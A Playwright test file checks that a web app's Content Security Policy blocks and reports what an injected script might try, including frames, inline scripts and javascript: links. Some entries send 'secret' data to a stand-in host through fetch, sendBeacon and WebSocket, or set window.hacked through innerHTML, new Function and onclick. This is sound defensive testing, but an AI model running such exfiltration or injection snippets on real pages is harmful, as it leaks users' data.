import type { Page } from '@playwright/test'
import { expect, test } from '../fixtures/test.ts'

interface Attempt {
  what: string
  /** The part of the policy that must keep it from happening. */
  directive: string
  attempt: () => unknown
}

/** What a script that got into the page might try. */
const attempts: Attempt[] = [
  {
    what: 'an image from elsewhere',
    directive: 'img-src',
    attempt: () => Object.assign(new Image(), { src: 'https://elsewhere.example/pixel.png' }),
  },
  {
    what: 'an image in its own address',
    directive: 'img-src',
    attempt: () =>
      Object.assign(new Image(), { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }),
  },
  {
    what: 'a call to elsewhere',
    directive: 'connect-src',
    attempt: () => fetch('https://elsewhere.example/', { method: 'POST', body: 'secret' }),
  },
  {
    what: 'a message to elsewhere that outlives the page',
    directive: 'connect-src',
    attempt: () => navigator.sendBeacon('https://elsewhere.example/', 'secret'),
  },
  {
    what: 'a socket to elsewhere',
    directive: 'connect-src',
    attempt: () => new WebSocket('wss://elsewhere.example/'),
  },
  {
    what: 'a form that is sent',
    directive: 'form-action',
    attempt: () => {
      const form = document.body.appendChild(document.createElement('form'))
      form.action = '/people'
      form.submit()
    },
  },
  {
    what: 'a frame',
    directive: 'frame-src',
    attempt: () => {
      document.body.appendChild(document.createElement('iframe')).src = 'https://elsewhere.example/'
    },
  },
  {
    what: 'a font',
    directive: 'font-src',
    attempt: () => new FontFace('other', 'url(/font.woff2)').load(),
  },
  {
    what: 'a sound',
    directive: 'media-src',
    attempt: () => new Audio('/sound.mp3').load(),
  },
  {
    what: 'code from elsewhere',
    directive: 'script-src-elem',
    attempt: () => import('https://elsewhere.example/code.js' as string),
  },
  {
    what: 'another base of relative addresses',
    directive: 'base-uri',
    attempt: () => {
      const base = document.head.appendChild(document.createElement('base'))
      base.href = 'https://elsewhere.example/'
      base.remove()
    },
  },
  {
    what: 'a style sheet',
    directive: 'style-src-elem',
    attempt: () => {
      document.head.appendChild(document.createElement('style')).textContent = '* { opacity: 0 }'
    },
  },
  {
    what: 'a style attribute',
    directive: 'style-src-attr',
    attempt: () => document.body.setAttribute('style', 'opacity: 0'),
  },
  {
    what: 'an inline script',
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.body.appendChild(document.createElement('script')).textContent = 'window.hacked = 1'
    },
  },
  {
    what: 'a script of an address',
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.body.appendChild(document.createElement('script')).src = '/assets/other.js'
    },
  },
  {
    what: 'a plug-in',
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.body.appendChild(document.createElement('object')).data = '/favicon.svg'
    },
  },
  {
    what: 'a worker',
    directive: 'require-trusted-types-for',
    attempt: () => new Worker('/assets/other.js'),
  },
  {
    what: 'HTML of a text',
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.body.appendChild(document.createElement('p')).innerHTML = '<b>bold</b>'
    },
  },
  {
    what: 'code of a text',
    directive: 'require-trusted-types-for',
    attempt: () => new Function('window.hacked = 1')(),
  },
  {
    what: 'a handler of a text',
    directive: 'require-trusted-types-for',
    attempt: () => document.body.setAttribute('onclick', 'window.hacked = 1'),
  },
  {
    what: 'a javascript: link that is followed',
    directive: 'script-src-elem',
    attempt: () => {
      const link = document.body.appendChild(document.createElement('a'))
      link.href = 'javascript:window.hacked = 1'
      link.click()
    },
  },
  {
    what: 'a policy of trusted types',
    directive: 'trusted-types',
    attempt: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
      }
      return trustedTypes.createPolicy('other', {})
    },
  },
]

/**
 * Makes an attempt in a task of the page's own, where the policy holds: what a test evaluates is exempt from some of it.
 *
 * @returns whether the browser has reported it
 */
function isReported(page: Page, { directive, attempt }: Attempt): Promise<boolean> {
  return page.evaluate(`new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      if (effectiveDirective === '${directive}') resolve(true)
    })
    setTimeout(async () => {
      try {
        await (${attempt})()
      } catch {}
      setTimeout(() => resolve(false), 2000)
    })
  })`)
}

test('the policy keeps from happening what a script that got into the page might try, and reports it', async ({
  app,
  page,
  pageErrors,
}) => {
  pageErrors.expectError(/Content Security Policy|Trusted/i)
  await app.openPeople()
  for (const attempt of attempts) {
    expect(await isReported(page, attempt), attempt.what).toBe(true)
    expect(await page.evaluate(() => 'hacked' in window), attempt.what).toBe(false)
  }
})

test('what the policy has kept from happening fails a test that did not expect it', async ({
  app,
  page,
  pageErrors,
}) => {
  await app.openPeople()
  await page.evaluate(() => {
    new Image().src = 'https://elsewhere.example/pixel.png'
  })
  const report = 'Content security policy: img-src blocked https://elsewhere.example/pixel.png'
  await expect.poll(() => pageErrors.unexpected()).toContain(report)
  pageErrors.expectError(/Content Security Policy/i)
})
